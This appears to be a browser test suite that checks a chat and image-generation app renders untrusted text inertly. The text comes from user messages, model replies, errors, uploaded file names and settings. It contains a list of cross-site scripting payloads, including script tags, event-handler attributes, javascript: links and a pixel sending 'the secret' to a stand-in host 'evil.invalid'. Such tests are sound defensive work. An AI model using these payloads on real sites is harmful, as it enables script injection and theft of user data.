"""What a person, a model or a service writes is shown and never runs: in the conversation, in the image panel, in an error."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Open
from tests.browser.window import Window
from tests.local_services import StandIns
from tests.pictures import encoded
from tests.servers.gemini import refusal, reply, structured
from tests.servers.wire import as_json
from tests.test_uploads import halves

pytestmark = pytest.mark.browser

EVIL = "http://evil.invalid"
FIRE = "window.fired=1;alert(1)"
VECTORS = (
    f"<script>{FIRE}</script>",
    f'<img src=x onerror="{FIRE}">',
    f"[press](javascript:{FIRE}) <a href='javascript:{FIRE}'>press</a>",
    f'<svg onload="{FIRE}"><animate onbegin="{FIRE}" attributeName=x dur=1s /></svg>',
    f'<iframe src="{EVIL}/frame" srcdoc="<script>parent.fired=1</script>"></iframe>',
    f"<style>body{{background:url({EVIL}/style)}} @import '{EVIL}/import.css';</style>",
    f'<form action="{EVIL}/form"><input name=q><button>send</button></form>',
    f"![picture]({EVIL}/image.png) ![](//evil.invalid/relative.png)",
    f"<img src='{EVIL}/pixel.gif?q=the+secret' width=1 height=1> <link rel=stylesheet href={EVIL}/a.css>",
    f"[read more]({EVIL}/link) <{EVIL}/auto> www.evil.invalid {EVIL}/bare",
    f"<object data='data:text/html,<script>{FIRE}</script>'></object> ![](data:image/svg+xml,<svg/onload={FIRE}>)",
    f'"><img src=x onerror={FIRE}> ``<img src=x onerror={FIRE}>`` $$<img src=x onerror={FIRE}>$$ &lt;script&gt;{FIRE}',
    f"```html\n<script>{FIRE}</script>\n``` \n~~~mermaid\ngraph TD; A-->B; click A \"javascript:{FIRE}\"\n~~~",
    f"<details open ontoggle={FIRE}><summary>x</summary></details><video><source onerror={FIRE}></video>",
)  # fmt: skip
ALIVE = """() => [...document.querySelectorAll(
    "#chat .message-wrap, #image-panel, #composer, #findings, #status, .toast-wrap, .key-state")]
    .flatMap(part => [...part.querySelectorAll(
    "script, iframe, object, embed, form, style, link, base, meta, video, audio, math, details, [onerror], [onload],"
    + " [ontoggle], a[href]:not(.download-picture[href*='/gradio_api/file=']), img:not([src*='/gradio_api/file='])")]
    .filter(found => !found.closest(".icon-button") && !(found.tagName == "STYLE" && found.closest("svg")))
    .map(found => found.outerHTML.slice(0, 120)))"""


def settled(window: Window) -> None:
    """Nothing of it lives: no element that acts, no trace of a script, no request. Pressing it does nothing either."""
    window.rest()
    for found in window.page.locator("#chat .message-wrap").get_by_text("press").all():
        found.click()
    assert window.page.evaluate(ALIVE) == []
    assert window.page.evaluate("window.fired") is None
    assert window.page.url.startswith(window.app.url)
    window.watch.settle()


def test_nothing_a_person_writes_or_a_model_answers_runs(come: Open, services: StandIns) -> None:
    window = come()
    services.gemini.enqueue(reply(*(f"{vector}\n\n" for vector in VECTORS), "the end of it"), reply("Fine too."))
    window.say("\n".join(VECTORS))
    expect(window.said.first).to_contain_text(f"<script>{FIRE}</script>")
    expect(window.chat).to_contain_text("the end of it")
    expect(window.chat.get_by_test_id("bot").first).to_contain_text(f"<script>{FIRE}</script>")
    settled(window)
    window.shot("injection-answer")
    window.reload()
    expect(window.chat).to_contain_text("the end of it")
    settled(window)
    window.say(f"/imagine {' '.join(VECTORS[:4])} --raw --bogus <img src=x onerror={FIRE}>")
    window.rest()
    settled(window)


def test_nothing_in_a_crafted_prompt_runs(come: Open, services: StandIns) -> None:
    window = come()
    vector = f"{VECTORS[1]} {VECTORS[7]} {VECTORS[8]}"
    crafted = {
        "title": vector, "prompt": f"a fox, {vector}", "prompt_2": vector, "negative_prompt": vector, "style": vector,
        "aspect_ratio": "1:1", "kept_terms": ["fox"], "added_terms": [vector], "reply": f"{vector} the end", "refusal": None,
    }  # fmt: skip
    services.gemini.enqueue(structured(crafted), structured(crafted))
    window.say("/imagine a fox")
    expect(window.pictures).to_have_count(1)
    window.rest()
    for found in window.page.locator("#chat .thought-group .title").all():
        found.click()
    settled(window)
    window.pictures.first.click()
    settled(window)


def test_nothing_in_an_error_runs(come: Open, services: StandIns) -> None:
    window = come()
    for vector in (VECTORS[0], VECTORS[1], VECTORS[8], VECTORS[11]):
        services.hub.enqueue(as_json({"error": vector}, 422))
        window.say("/imagine a fox")
        expect(window.chat).to_contain_text("does not take this request")
        settled(window)
        window.page.locator("#new-conversation").click()
        expect(window.said).to_have_count(0)
        window.box.fill("")
    services.gemini.enqueue(refusal(403, "PERMISSION_DENIED", VECTORS[1]))
    window.say("hello")
    expect(window.options.first).to_be_visible()
    settled(window)


def test_nothing_in_the_name_of_a_brought_picture_runs(come: Open) -> None:
    window = come()
    for vector in (VECTORS[0], VECTORS[1], VECTORS[7], VECTORS[11]):
        with window.page.expect_file_chooser() as chooser:
            window.page.locator("#attach-file").click()
        picture = encoded(halves((64, 64)))
        chooser.value.set_files({"name": f"{vector}.png", "mimeType": "image/png", "buffer": picture})
        expect(window.page.locator("#attached-picture img")).to_have_attribute("alt", re.compile(re.escape(vector[:10])))
        settled(window)
        window.page.locator("#attached-remove").click()
        expect(window.page.locator("#attached")).to_be_hidden()
    with window.page.expect_file_chooser() as chooser:
        window.page.locator("#attach-file").click()
    chooser.value.set_files({"name": f"{VECTORS[1]}.png", "mimeType": "image/png", "buffer": encoded(halves((64, 64)))})
    expect(window.page.locator("#attached-picture img")).to_be_visible()
    window.send("/imagine a fox")
    expect(window.pictures).to_have_count(2)  # the one that was brought, and what came of it, which takes the image panel
    settled(window)
    window.take(window.pictures.first)
    expect(window.page.locator("#summary")).to_have_text("your own picture")
    settled(window)


def test_nothing_typed_into_settings_runs(come: Open) -> None:
    window = come()
    window.go_to("Settings")
    window.quiet()
    box = window.page.locator("#set-negative_prompt").locator("textarea, input").first
    box.fill(VECTORS[1])
    box.press("Tab")
    model = window.page.locator("#set-chat_model input")
    model.fill(VECTORS[1])
    model.press("Enter")
    window.go_to("Chat")
    window.quiet()
    window.say("hello")
    expect(window.options.first).to_be_visible()
    settled(window)


def test_nothing_but_the_app_is_asked_and_the_policy_stands(come: Open) -> None:
    window = come()
    blocked = window.page.evaluate(f"""() => new Promise(done => {{
        document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective));
        new Image().src = '{EVIL}/policy.png'; setTimeout(() => done('let through'), 5000);
    }})""")
    assert blocked == "img-src"
    window.watch.outside.clear()
    window.watch.errors.clear()
    assert json.loads(window.page.evaluate("JSON.stringify({...localStorage})")).keys() <= {"theme"}
